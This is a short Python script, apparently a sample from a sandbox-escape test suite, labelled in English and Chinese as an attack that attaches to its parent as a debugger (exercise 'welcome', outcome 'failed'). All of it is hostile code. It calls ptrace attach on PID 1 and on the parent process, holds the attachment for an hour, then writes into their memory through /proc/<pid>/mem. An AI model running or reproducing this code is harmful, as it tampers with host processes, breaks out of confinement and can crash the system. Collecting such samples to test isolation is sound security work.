# attack: attaches to its parent as a debugger | 以调试器身份附着到父进程
# exercise: welcome
# outcome: failed
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
for target in (1, os.getppid()):
    if libc.ptrace(16, target, 0, 0) == 0:
        time.sleep(3600)
    try:
        with open(f"/proc/{target}/mem", "r+b") as memory:
            memory.write(b"mine")
    except OSError:
        pass
